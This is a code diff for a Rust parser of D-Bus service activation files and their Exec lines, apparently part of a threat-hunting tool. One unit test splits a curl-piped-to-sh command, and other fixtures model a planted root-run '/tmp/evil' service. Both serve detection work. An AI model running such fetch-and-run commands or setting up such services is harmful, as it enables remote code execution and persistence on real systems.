@@ -1,27 +1,35 @@
-//! D-Bus `.service` activation files: the key-file parser and the `Exec`
-//! splitter, as dbus-daemon reads them.
+//! The `.service` activation file: a key file whose `[D-BUS Service]` group
+//! tells a bus which program to start for a name.
 //!
-//! A service file names what a bus runs when a client asks for a name, so
-//! both the file table and the bus-children table need to read it exactly as
-//! the daemon does. dbus-daemon's reader (`bus/desktop-file.c`) is the
-//! reference: `#` comments, blank lines, `[Group]` headers, `Key=Value` with
-//! whitespace around `=` dropped, the *first* of duplicate keys kept. The
-//! daemon refuses a file with a malformed line; we parse on and list the
-//! problems instead, because a hunter wants to see the file either way.
-//! `Exec` is split into argv by the shell-like rules of `_dbus_shell_parse_argv`
-//! (`dbus/dbus-shell.c`, a copy of GLib's `g_shell_parse_argv`).
-use rustix::fs::OFlags;
-use std::fs::OpenOptions;
-use std::io::Read;
-use std::os::unix::fs::OpenOptionsExt;
-use std::path::{Path, PathBuf};
+//! [`parse`] takes bytes (the caller reads them safely, see
+//! `sources::fs_safe`) and returns the keys a bus acts on, read the way
+//! dbus-daemon reads them (`bus/desktop-file.c`): `#` comments and blank
+//! lines are skipped; a group starts with `[` in column 0; a key is a run
+//! of letters, digits and `-`, a key with a `[locale]` suffix is ignored;
+//! spaces around `=` are dropped; values are unescaped (`\s`, `\t`, `\n`,
+//! `\r`, `\\`); only the *first* `[D-BUS Service]` group counts, and within
+//! it the *first* of duplicate keys wins. [`split_exec`] then turns an
+//! `Exec=` value into the argv dbus-daemon would run
+//! (`_dbus_shell_parse_argv`), so a hunt sees the real program behind
+//! `/bin/sh -c "…"` wrappers.
+//!
+//! Where dbus-daemon refuses a whole file (a malformed line, a bad escape,
+//! invalid UTF-8, a key before any group), this parser goes on: a hunter
+//! wants whatever the file says. Each such fault is named in
+//! [`ServiceFile::problems`]; a bad line is skipped, a bad escape keeps the
+//! value as written, bytes that are not UTF-8 become `\xNN`
+//! (`fs_safe::render`).
+use crate::sources::fs_safe;
 
-/// dbus-daemon's own limit on a service file is larger, but no real one comes
-/// near this; a bigger file is read up to the cap and flagged.
+/// How much of a service file is read: real ones are a few hundred bytes,
+/// and dbus-daemon itself refuses anything past 128 KiB.
 pub const MAX_SERVICE_FILE_BYTES: u64 = 64 * 1024;
 
-pub const GROUP: &str = "D-BUS Service";
+/// The group dbus-daemon reads.
+const GROUP: &str = "D-BUS Service";
 
+/// The keys of the first `[D-BUS Service]` group that matter for
+/// activation, unescaped as dbus-daemon reads them.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct ServiceFile {
     pub name: Option<String>,
@@ -29,109 +37,116 @@ pub struct ServiceFile {
     pub user: Option<String>,
     pub systemd_service: Option<String>,
     pub assumed_apparmor_label: Option<String>,
-    /// Whether a `[D-BUS Service]` group was present at all.
-    pub has_group: bool,
-    /// Lines dbus-daemon would reject, or oddities worth a hunter's eye.
+    /// `Exec=` exactly as written in the file (escapes not resolved).
+    pub exec_as_written: Option<String>,
+    /// Faults for which dbus-daemon would refuse the whole file, each
+    /// starting with its line number.
     pub problems: Vec<String>,
 }
 
-#[derive(Debug, thiserror::Error)]
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
 pub enum ServiceFileError {
-    #[error("{path}: {source}")]
-    Io {
-        path: PathBuf,
-        #[source]
-        source: std::io::Error,
-    },
-    #[error("{path}: not a regular file")]
-    NotRegular { path: PathBuf },
+    #[error("no [D-BUS Service] group")]
+    NoServiceGroup,
 }
 
+/// Why an `Exec=` line could not be split into an argv.
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
 pub enum ExecError {
     #[error("Exec is empty")]
     Empty,
     #[error("Exec has an unterminated {0} quote")]
-    Unterminated(char),
-    #[error("Exec ends with a lone backslash")]
+    UnterminatedQuote(char),
+    #[error("Exec ends in a lone backslash")]
     TrailingBackslash,
 }
 
-/// dbus accepts keys of ASCII letters, digits and `-`, with an optional
-/// `[locale]` suffix.
-fn valid_key(key: &str) -> bool {
-    let base = match key.split_once('[') {
-        Some((base, loc)) => {
-            if !loc.ends_with(']') || loc.len() < 2 {
-                return false;
-            }
-            base
-        }
-        None => key,
-    };
-    !base.is_empty() && base.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+fn is_key_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || c == '-'
 }
 
-/// Parses the bytes of a service file. Never fails: what cannot be read as
-/// dbus-daemon would is recorded in `problems`.
-pub fn parse(bytes: &[u8]) -> ServiceFile {
+/// Resolves key-file escapes; on a bad one, the escape sequence that
+/// dbus-daemon would refuse.
+fn unescape(value: &str) -> Result<String, String> {
+    let mut out = String::with_capacity(value.len());
+    let mut chars = value.chars();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        out.push(match chars.next() {
+            Some('s') => ' ',
+            Some('t') => '\t',
+            Some('n') => '\n',
+            Some('r') => '\r',
+            Some('\\') => '\\',
+            Some(other) => return Err(format!("\\{other}")),
+            None => return Err("\\ at the end".to_string()),
+        });
+    }
+    Ok(out)
+}
+
+/// Reads the `[D-BUS Service]` keys out of a service file's bytes. Fails
+/// only when the group is missing, as a file without it activates nothing.
+pub fn parse(bytes: &[u8]) -> Result<ServiceFile, ServiceFileError> {
+    #[derive(PartialEq)]
+    enum Where {
+        BeforeAnyGroup,
+        Service,
+        Other,
+    }
     let mut out = ServiceFile::default();
-    let text = match std::str::from_utf8(bytes) {
-        Ok(t) => std::borrow::Cow::Borrowed(t),
-        Err(_) => {
-            out.problems
-                .push("not valid UTF-8 (dbus-daemon refuses the file)".into());
-            String::from_utf8_lossy(bytes)
+    let mut at = Where::BeforeAnyGroup;
+    let mut seen_group = false;
+    let mut problems = Vec::new();
+    for (i, raw) in bytes.split(|b| *b == b'\n').enumerate() {
+        let n = i + 1;
+        let raw = raw.strip_suffix(b"\r").unwrap_or(raw);
+        if std::str::from_utf8(raw).is_err() {
+            problems.push(problem_at(n, "not UTF-8".into()));
         }
-    };
-    let mut group: Option<String> = None;
-    let mut seen_groups = Vec::new();
-    for (idx, raw) in text.split('\n').enumerate() {
-        let lineno = idx + 1;
-        let line = raw.strip_suffix('\r').unwrap_or(raw);
-        let trimmed = line.trim_start();
-        if trimmed.is_empty() || trimmed.starts_with('#') {
+        let line = fs_safe::render(raw);
+        if line.trim().is_empty() || line.starts_with('#') {
             continue;
         }
-        if let Some(rest) = trimmed.strip_prefix('[') {
-            let Some(name) = rest.trim_end().strip_suffix(']') else {
-                out.problems
-                    .push(format!("line {lineno}: group header without `]`"));
+        if let Some(rest) = line.strip_prefix('[') {
+            match rest.strip_suffix(']') {
+                Some(group) if group == GROUP && !seen_group => {
+                    seen_group = true;
+                    at = Where::Service;
+                }
+                Some(_) => at = Where::Other,
+                None => {
+                    problems.push(problem_at(n, "malformed group header".into()));
+                    at = Where::Other;
+                }
+            }
+            continue;
+        }
+        match at {
+            Where::BeforeAnyGroup => {
+                problems.push(problem_at(n, "key before any group".into()));
                 continue;
-            };
-            if seen_groups.iter().any(|g| g == name) {
-                out.problems
-                    .push(format!("line {lineno}: group [{name}] repeated"));
             }
-            seen_groups.push(name.to_string());
-            if name == GROUP {
-                out.has_group = true;
-            }
-            group = Some(name.to_string());
+            Where::Other => continue,
+            Where::Service => {}
+        }
+        let key_len = line.find(|c: char| !is_key_char(c)).unwrap_or(line.len());
+        let (key, rest) = line.split_at(key_len);
+        if key.is_empty() {
+            problems.push(problem_at(n, "empty key name".into()));
             continue;
         }
-        let Some((key, value)) = line.split_once('=') else {
-            out.problems.push(format!(
-                "line {lineno}: neither comment, group nor key=value"
-            ));
+        if rest.starts_with('[') {
+            continue; // a localised key: dbus-daemon ignores it
+        }
+        let Some(value) = rest.trim_start_matches(' ').strip_prefix('=') else {
+            problems.push(problem_at(n, format!("no '=' after key {key}")));
             continue;
         };
-        let key = key.trim();
-        let value = value.trim_start();
-        if !valid_key(key) {
-            out.problems
-                .push(format!("line {lineno}: invalid key {key:?}"));
-            continue;
-        }
-        match group.as_deref() {
-            None => {
-                out.problems
-                    .push(format!("line {lineno}: key {key} before any group"));
-                continue;
-            }
-            Some(GROUP) => {}
-            Some(_) => continue,
-        }
+        let value = value.trim_start_matches(' ');
         let slot = match key {
             "Name" => &mut out.name,
             "Exec" => &mut out.exec,
@@ -141,116 +156,115 @@ pub fn parse(bytes: &[u8]) -> ServiceFile {
             _ => continue,
         };
         if slot.is_some() {
-            out.problems.push(format!(
-                "line {lineno}: duplicate key {key}; the first one is used"
-            ));
-        } else {
-            *slot = Some(value.to_string());
+            continue;
+        }
+        *slot = Some(match unescape(value) {
+            Ok(v) => v,
+            Err(esc) => {
+                problems.push(problem_at(n, format!("invalid escape {esc} in {key}")));
+                value.to_string()
+            }
+        });
+        if key == "Exec" {
+            out.exec_as_written = Some(value.to_string());
         }
     }
-    if !out.has_group {
-        out.problems.push(format!("no [{GROUP}] group"));
+    out.problems = problems;
+    if seen_group {
+        Ok(out)
+    } else {
+        Err(ServiceFileError::NoServiceGroup)
     }
-    out
 }
 
-/// Reads and parses one service file without following a symlink, without
-/// blocking on a FIFO, and at most [`MAX_SERVICE_FILE_BYTES`] of it.
-pub fn read(path: &Path) -> Result<ServiceFile, ServiceFileError> {
-    let io = |source| ServiceFileError::Io {
-        path: path.to_path_buf(),
-        source,
-    };
-    let file = OpenOptions::new()
-        .read(true)
-        .custom_flags((OFlags::NOFOLLOW | OFlags::NONBLOCK).bits() as i32)
-        .open(path)
-        .map_err(io)?;
-    if !file.metadata().map_err(io)?.is_file() {
-        return Err(ServiceFileError::NotRegular {
-            path: path.to_path_buf(),
-        });
-    }
-    let mut buf = Vec::new();
-    file.take(MAX_SERVICE_FILE_BYTES + 1)
-        .read_to_end(&mut buf)
-        .map_err(io)?;
-    let truncated = buf.len() as u64 > MAX_SERVICE_FILE_BYTES;
-    buf.truncate(MAX_SERVICE_FILE_BYTES as usize);
-    let mut parsed = parse(&buf);
-    if truncated {
-        parsed.problems.push(format!(
-            "larger than {MAX_SERVICE_FILE_BYTES} bytes; read up to that"
-        ));
-    }
-    Ok(parsed)
+fn problem_at(line: usize, what: String) -> String {
+    format!("line {line}: {what}")
 }
 
-/// Splits an `Exec` value into argv as dbus-daemon does before it execs:
-/// blanks separate words; `'…'` is literal; inside `"…"` a backslash escapes
-/// only `"`, `\`, `` ` ``, `$` and newline; outside quotes a backslash
-/// escapes any character and backslash-newline vanishes; `#` at the start of
-/// a word comments out the rest of the line.
+/// Splits an `Exec=` value the way dbus-daemon does before it execs it
+/// (`_dbus_shell_parse_argv` in `dbus/dbus-shell.c`), quirks included, so
+/// the argv matches what a spawned process shows in `/proc/<pid>/cmdline`:
+///
+/// - outside quotes, space and tab separate words; a newline ends a word
+///   even when empty; the end of the value always ends one, so trailing
+///   blanks leave a final empty argument;
+/// - outside quotes a backslash takes the next character literally, and
+///   backslash-newline vanishes;
+/// - an unquoted `#` discards the rest of the line *and* its newline, in the
+///   middle of a word too;
+/// - inside double quotes a backslash escapes only `"`, `\`, `$`, `` ` ``
+///   and newline (which is kept), elsewhere it stays; single quotes are
+///   literal; quoted and bare parts of one word join, `""` is an empty word.
+///
+/// No variable, glob or `PATH` expansion happens.
 pub fn split_exec(exec: &str) -> Result<Vec<String>, ExecError> {
     let mut argv = Vec::new();
-    let mut cur: Option<String> = None;
-    let mut chars = exec.chars().peekable();
+    let mut word = String::new();
+    // Whether the word has any source text yet (a quote pair counts): only
+    // such a word is ended by a blank.
+    let mut in_word = false;
+    let mut chars = exec.chars();
     while let Some(c) = chars.next() {
         match c {
-            ' ' | '\t' | '\n' => {
-                if let Some(word) = cur.take() {
-                    argv.push(word);
+            '\n' => {
+                argv.push(std::mem::take(&mut word));
+                in_word = false;
+            }
+            ' ' | '\t' => {
+                if in_word {
+                    argv.push(std::mem::take(&mut word));
+                    in_word = false;
                 }
             }
-            '#' if cur.is_none() => {
-                for c in chars.by_ref() {
-                    if c == '\n' {
-                        break;
-                    }
+            '#' => {
+                if !chars.by_ref().any(|c| c == '\n') {
+                    break;
                 }
             }
             '\\' => match chars.next() {
                 Some('\n') => {}
-                Some(next) => cur.get_or_insert_with(String::new).push(next),
+                Some(n) => {
+                    word.push(n);
+                    in_word = true;
+                }
                 None => return Err(ExecError::TrailingBackslash),
             },
             '\'' => {
-                let word = cur.get_or_insert_with(String::new);
+                in_word = true;
                 loop {
                     match chars.next() {
                         Some('\'') => break,
-                        Some(c) => word.push(c),
-                        None => return Err(ExecError::Unterminated('\'')),
+                        Some(n) => word.push(n),
+                        None => return Err(ExecError::UnterminatedQuote('\'')),
                     }
                 }
             }
             '"' => {
-                let word = cur.get_or_insert_with(String::new);
+                in_word = true;
                 loop {
                     match chars.next() {
                         Some('"') => break,
-                        Some('\\') => match chars.peek().copied() {
-                            Some('\n') => {
-                                chars.next();
+                        Some('\\') => match chars.next() {
+                            Some(n @ ('"' | '\\' | '$' | '`' | '\n')) => word.push(n),
+                            Some(n) => {
+                                word.push('\\');
+                                word.push(n);
                             }
-                            Some(e @ ('"' | '\\' | '`' | '$')) => {
-                                chars.next();
-                                word.push(e);
-                            }
-                            _ => word.push('\\'),
+                            None => return Err(ExecError::UnterminatedQuote('"')),
                         },
-                        Some(c) => word.push(c),
-                        None => return Err(ExecError::Unterminated('"')),
+                        Some(n) => word.push(n),
+                        None => return Err(ExecError::UnterminatedQuote('"')),
                     }
                 }
             }
-            other => cur.get_or_insert_with(String::new).push(other),
+            _ => {
+                word.push(c);
+                in_word = true;
+            }
         }
     }
-    if let Some(word) = cur {
-        argv.push(word);
-    }
-    if argv.is_empty() {
+    argv.push(word);
+    if argv.iter().all(String::is_empty) {
         return Err(ExecError::Empty);
     }
     Ok(argv)
@@ -260,130 +274,113 @@ pub fn split_exec(exec: &str) -> Result<Vec<String>, ExecError> {
 mod tests {
     use super::*;
 
-    fn v(a: &[&str]) -> Vec<String> {
-        a.iter().map(|s| s.to_string()).collect()
-    }
-
     #[test]
-    fn parses_a_plain_file() {
+    fn keys_first_wins_and_noise_ignored() {
         let f = parse(
-            b"# planted\n\n[D-BUS Service]\nName=org.example.X\nExec=/tmp/x.sh a b\nUser=root\nSystemdService=x.service\nAssumedAppArmorLabel=unconfined\n",
-        );
-        assert_eq!(f.name.as_deref(), Some("org.example.X"));
-        assert_eq!(f.exec.as_deref(), Some("/tmp/x.sh a b"));
-        assert_eq!(f.user.as_deref(), Some("root"));
-        assert_eq!(f.systemd_service.as_deref(), Some("x.service"));
-        assert_eq!(f.assumed_apparmor_label.as_deref(), Some("unconfined"));
-        assert!(f.has_group);
-        assert!(f.problems.is_empty(), "{:?}", f.problems);
-    }
-
-    #[test]
-    fn whitespace_duplicates_other_groups_and_crlf() {
-        let f = parse(
-            b"  # indented comment\r\n[Other]\r\nExec=/nope\r\n[D-BUS Service]\r\nName = org.a\r\nExec  =   /bin/x  y\r\nExec=/bin/second\r\n",
-        );
-        assert_eq!(f.name.as_deref(), Some("org.a"));
-        assert_eq!(
-            f.exec.as_deref(),
-            Some("/bin/x  y"),
-            "first key wins, other group ignored"
-        );
-        assert!(f.problems.iter().any(|p| p.contains("duplicate key Exec")));
-    }
-
-    #[test]
-    fn malformed_lines_are_problems_not_failures() {
-        let f = parse(b"Name=early\n[D-BUS Service\ngarbage line\nBad Key=1\n[D-BUS Service]\nName=n\nName[fr]=m\n");
-        assert_eq!(f.name.as_deref(), Some("n"));
-        assert!(f.problems.iter().any(|p| p.contains("before any group")));
-        assert!(f.problems.iter().any(|p| p.contains("without `]`")));
-        assert!(f.problems.iter().any(|p| p.contains("neither comment")));
-        assert!(f.problems.iter().any(|p| p.contains("invalid key")));
-        assert_eq!(f.problems.len(), 4, "{:?}", f.problems);
-        let f = parse(b"\xff\xfe[D-BUS Service]\n");
-        assert!(f.problems.iter().any(|p| p.contains("UTF-8")));
-        let f = parse(b"");
-        assert!(!f.has_group);
-        assert!(f.problems.iter().any(|p| p.contains("no [D-BUS Service]")));
-    }
-
-    #[test]
-    fn exec_quoting() {
-        assert_eq!(
-            split_exec("/tmp/x.sh a b").unwrap(),
-            v(&["/tmp/x.sh", "a", "b"])
-        );
-        assert_eq!(split_exec("  /bin/x\t a  ").unwrap(), v(&["/bin/x", "a"]));
-        assert_eq!(
-            split_exec("/bin/x 'a b' \"c d\"").unwrap(),
-            v(&["/bin/x", "a b", "c d"])
-        );
-        assert_eq!(
-            split_exec(r#"/bin/x "a\"b" "a\nb" "\$x""#).unwrap(),
-            v(&["/bin/x", "a\"b", "a\\nb", "$x"])
-        );
-        assert_eq!(
-            split_exec(r"/bin/x a\ b \'c").unwrap(),
-            v(&["/bin/x", "a b", "'c"])
-        );
-        assert_eq!(split_exec(r"/bin/x 'a\b'").unwrap(), v(&["/bin/x", "a\\b"]));
-        assert_eq!(split_exec("/bin/x ''").unwrap(), v(&["/bin/x", ""]));
-        assert_eq!(
-            split_exec("/bin/x a'b'\"c\"d").unwrap(),
-            v(&["/bin/x", "abcd"])
-        );
-        assert_eq!(
-            split_exec("/bin/x a#b # comment").unwrap(),
-            v(&["/bin/x", "a#b"])
-        );
-        assert_eq!(split_exec("/bin/x a\\\nb").unwrap(), v(&["/bin/x", "ab"]));
-    }
-
-    #[test]
-    fn exec_errors() {
-        assert_eq!(split_exec(""), Err(ExecError::Empty));
-        assert_eq!(split_exec("   # only a comment"), Err(ExecError::Empty));
-        assert_eq!(split_exec("/bin/x 'a"), Err(ExecError::Unterminated('\'')));
-        assert_eq!(split_exec("/bin/x \"a"), Err(ExecError::Unterminated('"')));
-        assert_eq!(split_exec("/bin/x \\"), Err(ExecError::TrailingBackslash));
-    }
-
-    #[test]
-    fn read_is_safe() {
-        let dir = tempfile::tempdir().unwrap();
-        let p = dir.path().join("a.service");
-        std::fs::write(&p, "[D-BUS Service]\nName=a\nExec=/bin/a\n").unwrap();
-        assert_eq!(read(&p).unwrap().name.as_deref(), Some("a"));
-        let link = dir.path().join("l.service");
-        std::os::unix::fs::symlink(&p, &link).unwrap();
-        assert!(
-            matches!(read(&link), Err(ServiceFileError::Io { .. })),
-            "symlinks are not followed"
-        );
-        assert!(matches!(
-            read(dir.path()),
-            Err(ServiceFileError::NotRegular { .. })
-        ));
-        let fifo = dir.path().join("f.service");
-        rustix::fs::mknodat(
-            rustix::fs::CWD,
-            &fifo,
-            rustix::fs::FileType::Fifo,
-            rustix::fs::Mode::from_raw_mode(0o644),
-            0,
+            b"# comment\n\
+[Other]\n\
+Name=org.wrong\n\
+\n\
+[D-BUS Service]\n\
+Name = org.example.Foo\r\n\
+Name[de]=org.localised\n\
+Exec=/usr/libexec/foo\\s--bar \\\\x\n\
+Exec=/tmp/evil\n\
+Name=org.second\n\
+User=root\n\
+SystemdService=foo.service\n\
+AssumedAppArmorLabel=unconfined\n\
+Unknown=x\n\
+garbage line\n\
+[Another]\n\
+User=nobody\n\
+[D-BUS Service]\n\
+SystemdService=second-group-is-ignored.service\n",
         )
         .unwrap();
-        assert!(
-            matches!(read(&fifo), Err(ServiceFileError::NotRegular { .. })),
-            "a FIFO never blocks"
+        assert_eq!(f.name.as_deref(), Some("org.example.Foo"));
+        assert_eq!(f.exec.as_deref(), Some("/usr/libexec/foo --bar \\x"));
+        assert_eq!(
+            f.exec_as_written.as_deref(),
+            Some("/usr/libexec/foo\\s--bar \\\\x")
         );
-        let big = dir.path().join("big.service");
-        let mut body = b"[D-BUS Service]\nName=big\n".to_vec();
-        body.resize(200 * 1024, b'#');
-        std::fs::write(&big, body).unwrap();
-        let f = read(&big).unwrap();
-        assert_eq!(f.name.as_deref(), Some("big"));
-        assert!(f.problems.iter().any(|p| p.contains("larger than")));
+        assert_eq!(f.user.as_deref(), Some("root"));
+        assert_eq!(f.systemd_service.as_deref(), Some("foo.service"));
+        assert_eq!(f.assumed_apparmor_label.as_deref(), Some("unconfined"));
+        assert_eq!(f.problems, ["line 15: no '=' after key garbage"]);
+    }
+
+    #[test]
+    fn faults_dbus_daemon_refuses_are_named() {
+        let f = parse(
+            b"Stray=1\n[D-BUS Service]\n  Indented=1\n[broken\nExec=/bin/sh -c \"echo \\\"hi\\\"\"\n",
+        )
+        .unwrap();
+        assert_eq!(
+            f.problems,
+            [
+                "line 1: key before any group",
+                "line 3: empty key name",
+                "line 4: malformed group header",
+            ]
+        );
+        // The Exec came after the broken header, so it is in no group.
+        assert_eq!(f.exec, None);
+        let f = parse(b"[D-BUS Service]\nExec=/bin/sh -c \"echo \\\"hi\\\"\"\n").unwrap();
+        assert_eq!(f.problems, ["line 2: invalid escape \\\" in Exec"]);
+        assert_eq!(f.exec.as_deref(), Some("/bin/sh -c \"echo \\\"hi\\\"\""));
+    }
+
+    #[test]
+    fn missing_group_and_binary_garbage() {
+        assert_eq!(
+            parse(b"Name=x\nExec=/bin/true\n"),
+            Err(ServiceFileError::NoServiceGroup)
+        );
+        assert_eq!(
+            parse(b"\x7fELF\x02\x01\x01\0\0\0\xff\xfe"),
+            Err(ServiceFileError::NoServiceGroup)
+        );
+        assert_eq!(parse(b""), Err(ServiceFileError::NoServiceGroup));
+    }
+
+    #[test]
+    fn non_utf8_values_survive_as_escapes() {
+        let f = parse(b"[D-BUS Service]\nName=a\nExec=/opt/caf\xe9 -x\n").unwrap();
+        // `\xe9` reads as an escape to the key-file rules, so the value
+        // stays as rendered.
+        assert_eq!(f.exec.as_deref(), Some("/opt/caf\\xe9 -x"));
+        assert_eq!(f.problems[0], "line 3: not UTF-8");
+    }
+
+    #[test]
+    fn split_like_dbus_daemon() {
+        let s = |x: &str| split_exec(x).unwrap();
+        assert_eq!(s("/usr/bin/foo  --a\tb"), ["/usr/bin/foo", "--a", "b"]);
+        assert_eq!(
+            s(r#"/bin/sh -c "curl http://x/\"p\" | sh; echo \$HOME \a""#),
+            ["/bin/sh", "-c", r#"curl http://x/"p" | sh; echo $HOME \a"#]
+        );
+        assert_eq!(
+            s(r#"/bin/sh -c 'a "b" \c'"#),
+            ["/bin/sh", "-c", r#"a "b" \c"#]
+        );
+        assert_eq!(s(r"/opt/my\ prog x\\y"), ["/opt/my prog", r"x\y"]);
+        assert_eq!(s(r#"a"b c"'d e'f"#), ["ab cd ef"]);
+        assert_eq!(s(r#"x "" ''"#), ["x", "", ""]);
+        assert_eq!(s("a \\\nb"), ["a", "b"]);
+        assert_eq!(s("\"/path with/space\" arg"), ["/path with/space", "arg"]);
+        // dbus-daemon's quirks, kept so argv matches the spawned process.
+        assert_eq!(s("a b "), ["a", "b", ""]);
+        assert_eq!(s("a\n\nb"), ["a", "", "b"]);
+        assert_eq!(s("/bin/x#comment 'unclosed"), ["/bin/x"]);
+        assert_eq!(s("a#c d\nb"), ["ab"]);
+        assert_eq!(s("\"a\\\nb\""), ["a\nb"]);
+        assert_eq!(s("\t/bin/x"), ["/bin/x"]);
+        assert_eq!(split_exec("  "), Err(ExecError::Empty));
+        assert_eq!(split_exec(""), Err(ExecError::Empty));
+        assert_eq!(split_exec("a 'b"), Err(ExecError::UnterminatedQuote('\'')));
+        assert_eq!(split_exec("a \"b"), Err(ExecError::UnterminatedQuote('"')));
+        assert_eq!(split_exec("a \\"), Err(ExecError::TrailingBackslash));
     }
 }
